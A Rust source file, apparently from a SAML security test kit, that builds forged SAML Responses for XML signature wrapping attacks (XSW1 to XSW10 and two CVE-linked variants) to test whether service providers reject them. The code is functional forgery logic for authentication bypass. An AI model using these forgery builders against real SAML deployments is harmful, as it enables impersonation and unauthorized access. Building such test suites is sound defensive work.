//! XML signature wrapping: the permutations of Somorovsky et al., "On Breaking SAML: Be Whoever You
//! Want to Be" (USENIX Security 2012), as SAML Raider numbers them.

use super::stage::{Stage, cut_signature};
use super::{Attack, Posting};
use crate::error::TestkitError;
use crate::idp::Draft;
use crate::xml::{append, insert_before, replace};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::forged(
        "xsw1_original_response_in_forged_signature",
        "Makes a forged Response the root and hides the signed original inside its Signature.",
        "XSW1",
        "misplaced_element",
        |stage| in_forged_response(&stage.forged(), stage, append),
    ),
    Attack::forged(
        "xsw1_with_the_same_assertion_id",
        "As XSW1, with the ID of the genuine Assertion on the forged one too.",
        "XSW1",
        "xml_duplicate_id",
        |stage| in_forged_response(&same_assertion_id(stage), stage, append),
    ),
    Attack::forged(
        "xsw2_original_response_before_forged_signature",
        "Makes a forged Response the root and hides the signed original before its Signature.",
        "XSW2",
        "misplaced_element",
        |stage| in_forged_response(&stage.forged(), stage, before),
    ),
    Attack::forged(
        "xsw2_with_the_same_assertion_id",
        "As XSW2, with the ID of the genuine Assertion on the forged one too.",
        "XSW2",
        "xml_duplicate_id",
        |stage| in_forged_response(&same_assertion_id(stage), stage, before),
    ),
    Attack::forged(
        "xsw3_forged_sibling_before_signed_assertion",
        "Puts a forged Assertion before the signed one.",
        "XSW3",
        "several_assertions",
        |stage| stage.beside(&stage.forged().assertion),
    ),
    Attack::forged(
        "xsw4_signed_assertion_inside_forged_one",
        "Puts the signed Assertion inside of a forged one.",
        "XSW4",
        "misplaced_element",
        |stage| {
            let signed = stage.signed()?.assertion;
            Ok(stage.replaced(append(&stage.forged().assertion, &signed)?))
        },
    ),
    Attack::forged(
        "xsw5_signature_moved_to_forged_sibling",
        "Moves the signature into a forged Assertion; the one that it names follows, unsigned.",
        "XSW5",
        "several_assertions",
        |stage| {
            let (original, signature) = cut_signature(&stage.signed()?.assertion)?;
            let forged = stage.after_issuer(&stage.forged().assertion, &signature)?;
            Ok(stage.replaced([forged, original].concat()))
        },
    ),
    Attack::forged(
        "xsw6_original_assertion_in_forged_signature",
        "Moves the signature into a forged Assertion, and the one that it names into the signature.",
        "XSW6",
        "misplaced_element",
        |stage| in_forged_signature(stage, "", ""),
    ),
    Attack::forged(
        "xsw7_forged_in_extensions",
        "Puts a forged Assertion into the Extensions of the Response.",
        "XSW7",
        "misplaced_element",
        |stage| {
            let (p, forged) = (stage.p(), stage.forged().assertion);
            stage.beside(&format!("<{p}Extensions>{forged}</{p}Extensions>"))
        },
    ),
    Attack::forged(
        "xsw7_forged_in_unqualified_extensions",
        "Puts a forged Assertion into an element Extensions that is in no namespace.",
        "XSW7",
        "misplaced_element",
        |stage| {
            let forged = stage.forged().assertion;
            stage.beside(&format!("<Extensions>{forged}</Extensions>"))
        },
    ),
    Attack::forged(
        "xsw7_with_the_same_assertion_id",
        "As XSW7, with the ID of the genuine Assertion on the forged one too.",
        "XSW7",
        "xml_duplicate_id",
        |stage| stage.beside(&format!("<Extensions>{}</Extensions>", stage.victim().assertion)),
    ),
    Attack::forged(
        "xsw8_original_assertion_in_object",
        "Moves the signature into a forged Assertion, and the original into a ds:Object there.",
        "XSW8",
        "misplaced_element",
        |stage| in_forged_signature(stage, "<ds:Object>", "</ds:Object>"),
    ),
    Attack::forged(
        "xsw8_with_the_same_assertion_id",
        "As XSW8, with the ID of the genuine Assertion on the forged one too.",
        "XSW8",
        "xml_duplicate_id",
        |stage| {
            let (original, signature) = cut_signature(&stage.signed()?.assertion)?;
            let object = format!("<Object>{original}</Object>");
            let signature = append(&signature, &object)?;
            Ok(stage.replaced(stage.after_issuer(&stage.victim().assertion, &signature)?))
        },
    ),
    Attack::forged(
        "xsw10_assertion_signature_moved_to_response",
        "Moves the Assertion's signature to the Response, with the original in a ds:Object there, \
         and forges the Assertion.",
        "XSW10",
        "misplaced_element",
        |stage| {
            let signed = stage.signed()?.assertion;
            let (_, signature) = cut_signature(&signed)?;
            let object = format!("<ds:Object>{signed}</ds:Object>");
            let draft = stage.genuine();
            let issuer = [draft.issuer.as_str(), &append(&signature, &object)?].concat();
            let assertion = stage.forged().assertion;
            Ok(Draft { issuer, assertion, ..draft }.assemble().into())
        },
    ),
    Attack::forged(
        "forged_assertion_added_to_signed_response",
        "Adds a forged Assertion to a Response that is signed as a whole.",
        "CVE-2025-47949, CVE-2025-46572",
        "several_assertions",
        |stage| {
            let signed = stage.idp().sign_element(&stage.genuine().assemble())?;
            Ok(append(&signed, &stage.forged().assertion)?.into())
        },
    ),
    Attack::forged(
        "forged_assertion_replaces_the_one_in_a_signed_response",
        "Replaces the Assertion in a Response that is signed as a whole.",
        "On Breaking SAML",
        "signature_digest_mismatch",
        |stage| {
            let draft = stage.genuine();
            let signed = stage.idp().sign_element(&draft.assemble())?;
            Ok(replace(&signed, &draft.assertion, &stage.forged().assertion)?.into())
        },
    ),
];

/// The signed Response, its signature, and a forged Response that carries both.
fn in_forged_response(
    forged: &Draft,
    stage: &Stage<'_>,
    combine: fn(&str, &str) -> Result<String, TestkitError>,
) -> Result<Posting, TestkitError> {
    let signed = stage.idp().sign_element(&stage.genuine().assemble())?;
    let (original, signature) = cut_signature(&signed)?;
    Ok(stage.after_issuer(&forged.assemble(), &combine(&signature, &original)?)?.into())
}

fn before(signature: &str, original: &str) -> Result<String, TestkitError> {
    insert_before(signature, "<ds:Signature ", original)
}

fn same_assertion_id(stage: &Stage<'_>) -> Draft {
    Draft { assertion: stage.victim().assertion, ..stage.forged() }
}

fn in_forged_signature(
    stage: &Stage<'_>,
    open: &str,
    close: &str,
) -> Result<Posting, TestkitError> {
    let (original, signature) = cut_signature(&stage.signed()?.assertion)?;
    let signature = append(&signature, &[open, &original, close].concat())?;
    Ok(stage.replaced(stage.after_issuer(&stage.forged().assertion, &signature)?))
}
